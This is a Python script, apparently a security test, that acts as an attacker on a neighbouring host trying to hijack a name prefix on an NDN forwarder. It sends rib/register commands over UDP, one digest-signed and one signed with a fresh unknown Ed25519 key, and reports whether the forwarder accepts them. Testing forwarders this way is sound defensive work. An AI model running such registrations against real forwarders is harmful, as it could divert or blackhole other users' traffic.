"""A stranger on the next host tries to pull a prefix to itself: ``rib/register`` sent to a
forwarder's UDP port, in both command forms python-ndn builds for a non-local face.

    hijack_attacker.py HOST PORT PREFIX

1. ``make_command`` (the name-embedded form, signed with DigestSha256: no key needed);
2. ``make_command_v2`` as a v0.3 signed Interest signed by a fresh Ed25519 key nobody knows,
   with its SignatureTime and SignatureNonce.

Prints one JSON line per command: its form and the ControlResponse (or "no answer")."""

from __future__ import annotations

import json
import socket
import sys
from typing import Any

from Cryptodome.PublicKey import ECC
from ndn.app_support.nfd_mgmt import make_command, make_command_v2, parse_response
from ndn.encoding import InterestParam, Name, make_interest, parse_data
from ndn.security import Ed25519Signer
from ndn.utils import gen_nonce, gen_nonce_64, timestamp


class NonLocal:
    """What python-ndn asks of a face to choose /localhop: not local."""

    def isLocalFace(self) -> bool:
        return False


class StrangerSigner(Ed25519Signer):
    """A fresh key's Ed25519 signature with SignatureTime and SignatureNonce, as a signed
    command Interest carries them."""

    def write_signature_info(self, signature_info: Any) -> None:
        super().write_signature_info(signature_info)
        signature_info.signature_time = timestamp()
        signature_info.signature_nonce = gen_nonce_64()


def ask(sock: socket.socket, wire: bytes) -> dict[str, Any] | str:
    sock.send(wire)
    try:
        data = sock.recv(9000)
    except TimeoutError:
        return "no answer"
    _, _, content, _ = parse_data(data, with_tl=True)
    response = parse_response(content)
    return {"status_code": response["status_code"], "status_text": str(response["status_text"])}


def main() -> None:
    host, port, prefix = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(3)
    sock.connect((host, port))
    param = InterestParam(lifetime=1000)
    v1 = make_command("rib", "register", NonLocal(), name=Name.from_str(prefix))
    param.nonce = gen_nonce()
    print(json.dumps({"form": "v1-digest", "response": ask(sock, bytes(make_interest(v1, param)))}))
    key = ECC.generate(curve="ed25519")
    signer = StrangerSigner("/stranger/KEY/%01%02", key.export_key(format="DER"))
    v2 = make_command_v2("rib", "register", NonLocal(), name=Name.from_str(prefix + "2"))
    param.nonce = gen_nonce()
    wire = bytes(make_interest(v2, param, app_param=b"", signer=signer))
    print(json.dumps({"form": "v2-ed25519-stranger", "response": ask(sock, wire)}), flush=True)


if __name__ == "__main__":
    main()
